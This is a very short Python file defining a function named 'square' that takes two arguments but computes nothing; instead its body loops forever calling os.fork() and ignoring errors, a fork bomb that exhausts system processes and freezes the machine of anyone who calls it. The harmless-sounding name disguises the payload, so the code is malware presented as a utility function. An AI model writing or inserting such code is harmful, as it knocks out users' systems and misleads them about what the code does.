import os


def square(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
